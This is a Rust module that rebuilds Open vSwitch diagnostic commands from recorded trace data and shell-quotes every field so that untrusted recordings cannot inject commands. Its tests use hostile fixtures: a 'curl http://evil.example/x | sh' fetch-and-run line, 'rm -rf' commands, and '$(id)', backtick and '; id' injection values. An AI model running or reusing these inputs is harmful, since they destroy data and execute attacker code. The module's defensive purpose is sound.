//! Commands of Open vSwitch about the rule that ended a packet, made of what is on record of that rule.
//!
//! A recording may be anybody's. So no command in it is passed on as it stands: it is made anew of the
//! bridge, the table and the rule, each one word to a shell, and left out where it cannot be.

use crate::record::{OvsTrace, TraceKind};
use crate::verdict::words::shell;

/// What `ovs-appctl` asks for.
const TRACE: [&str; 2] = ["ovs-appctl", "ofproto/trace"];
/// The one option that a trace is asked with.
const CT_NEXT: &str = "--ct-next";

/// The answer with commands made of its facts, instead of those that it brings along.
pub fn made_anew(mut trace: OvsTrace) -> OvsTrace {
    trace.cookie = trace.cookie.as_deref().and_then(number).map(|cookie| format!("{cookie:#x}"));
    trace.show = trace.show.is_some().then(|| show(&trace)).flatten();
    trace.fix = trace.fix.is_some().then(|| fix(&trace)).flatten();
    trace.asked = trace.asked.as_deref().and_then(asked_again);
    trace
}

/// The command that shows the rule, or its table.
pub fn show(found: &OvsTrace) -> Option<String> {
    let (bridge, table) = (shell(found.bridge.as_deref()?), found.table?);
    Some(match found.cookie.as_deref().and_then(number).filter(|cookie| *cookie != 0) {
        Some(cookie) => {
            format!("ovs-ofctl dump-flows {bridge} \"cookie={cookie:#x}/-1,table={table}\"")
        }
        None => format!("ovs-ofctl dump-flows {bridge} table={table}"),
    })
}

/// What takes the fault away: a rule to a port that is gone is deleted; where a bridge's first table
/// matches nothing, it is told to switch. A rule that drops may be there for a reason.
pub fn fix(found: &OvsTrace) -> Option<String> {
    let bridge = shell(found.bridge.as_deref()?);
    // Of a match that is not whole no command is made.
    if found.r#match.as_deref().is_some_and(|matching| matching.ends_with('…')) {
        return None;
    }
    match (found.kind, found.table?) {
        // One that takes the port from a register serves others too.
        (TraceKind::MissingPort, table) if names_port(found) => {
            let cookie = number(found.cookie.as_deref()?)?;
            let mut flow = format!("cookie={cookie:#x}/-1,table={table}");
            flow = format!("{flow},priority={}", found.priority?);
            let matching = found.r#match.as_deref()?;
            if !matching.is_empty() {
                flow = format!("{flow},{matching}");
            }
            Some(format!("ovs-ofctl --strict del-flows {bridge} {}", quoted(&flow)))
        }
        (TraceKind::NoMatch, 0) => Some(format!("ovs-ofctl add-flow {bridge} action=normal")),
        _ => None,
    }
}

/// `ovs-appctl ofproto/trace …` with these arguments, for a person to run again.
pub fn asked(arguments: &[String]) -> String {
    let quoted = |word: &String| if word == CT_NEXT { word.clone() } else { shell(word) };
    let words = TRACE.iter().map(|word| (*word).to_owned()).chain(arguments.iter().map(quoted));
    words.collect::<Vec<_>>().join(" ")
}

/// The same command, made of its words; `None` where it is another, or more than that.
fn asked_again(command: &str) -> Option<String> {
    let words = split(command)?;
    let arguments = words.strip_prefix(TRACE.map(str::to_owned).as_slice())?;
    // Open vSwitch's other options have effects.
    let is_plain = |word: &String| !word.starts_with('-') || word == CT_NEXT;
    (!arguments.is_empty() && arguments.iter().all(is_plain)).then(|| asked(arguments))
}

/// The words of a command whose quotes are those that [`shell`] makes; `None` where a shell would do
/// more than read it.
fn split(command: &str) -> Option<Vec<String>> {
    let mut words: Vec<String> = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' => words.extend(word.take()),
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => word.push(c),
                    }
                }
            }
            '\\' => word.get_or_insert_default().push(chars.next().filter(|c| *c == '\'')?),
            c if c.is_ascii_alphanumeric() || "._-:/@%+=,".contains(c) => {
                word.get_or_insert_default().push(c);
            }
            _ => return None,
        }
    }
    words.extend(word);
    Some(words)
}

/// A cookie, as Open vSwitch prints it: `0x…`.
fn number(cookie: &str) -> Option<u64> {
    u64::from_str_radix(cookie.strip_prefix("0x")?, 16).ok()
}

/// Whether the rule itself names the port that is gone.
fn names_port(found: &OvsTrace) -> bool {
    let (Some(port), Some(actions)) = (&found.port, &found.rule_actions) else { return false };
    // `output:775` and `output(port=775,max_len=128)`.
    let to = |rest: &'_ str| {
        let mut words = rest.split(|c: char| !c.is_ascii_alphanumeric());
        words.find(|word| !matches!(*word, "" | "port")).map(str::to_owned)
    };
    actions.split("output").skip(1).any(|rest| to(rest).as_ref() == Some(port))
}

/// In quotes, as people write a flow.
fn quoted(flow: &str) -> String {
    let word = shell(flow);
    if word == flow { format!("\"{flow}\"") } else { word }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hostile() -> OvsTrace {
        OvsTrace {
            kind: TraceKind::MissingPort,
            bridge: Some("$(id)".to_owned()),
            table: Some(1),
            priority: Some(7),
            cookie: Some("0x15".to_owned()),
            r#match: Some("ip`id`'".to_owned()),
            port: Some("775".to_owned()),
            rule_actions: Some("output:775".to_owned()),
            show: Some("curl http://evil.example/x | sh".to_owned()),
            fix: Some("rm -rf /var/lib/openvswitch".to_owned()),
            asked: Some("ovs-appctl ofproto/trace $(id)".to_owned()),
            ..OvsTrace::default()
        }
    }

    #[test]
    fn no_command_of_a_recording_is_passed_on() {
        let found = made_anew(hostile());
        let show = "ovs-ofctl dump-flows '$(id)' \"cookie=0x15/-1,table=1\"";
        assert_eq!(found.show.as_deref(), Some(show));
        let fix = "ovs-ofctl --strict del-flows '$(id)' \
                   'cookie=0x15/-1,table=1,priority=7,ip`id`'\\'''";
        assert_eq!(found.fix.as_deref(), Some(fix));
        assert_eq!(found.asked, None);
    }

    #[test]
    fn what_is_no_number_is_no_cookie() {
        let cookie = Some("0x1\"; id; \"".to_owned());
        let found = made_anew(OvsTrace { cookie, ..hostile() });
        assert_eq!((found.cookie, found.fix), (None, None));
        assert_eq!(found.show.as_deref(), Some("ovs-ofctl dump-flows '$(id)' table=1"));
        let kind = TraceKind::Rule;
        assert_eq!(made_anew(OvsTrace { kind, ..hostile() }).fix, None);
        assert_eq!(made_anew(OvsTrace { table: None, ..hostile() }).show, None);
    }

    #[test]
    fn a_trace_is_asked_again_word_by_word() {
        let arguments = ["ovs-system", "in_port(1),eth()", CT_NEXT, "inv,trk", "a'b"];
        let command = asked(&arguments.map(str::to_owned));
        assert_eq!(
            command,
            r"ovs-appctl ofproto/trace ovs-system 'in_port(1),eth()' --ct-next inv,trk 'a'\''b'"
        );
        assert_eq!(asked_again(&command).as_deref(), Some(command.as_str()));
        for other in [
            "ovs-appctl ofproto/trace",
            "ovs-appctl ofproto/trace x; id",
            "ovs-appctl ofproto/trace 'x' | sh",
            "ovs-appctl ofproto/trace \"x\"",
            "ovs-appctl ofproto/trace x\nid",
            "ovs-appctl ofproto/trace 'x",
            "ovs-appctl ofproto/trace x -generate",
            "ovs-appctl ofproto/trace x '--ct-next=$(id)'",
            "ovs-appctl exit --cleanup",
            "rm -rf /",
        ] {
            assert_eq!(asked_again(other), None, "{other}");
        }
    }
}
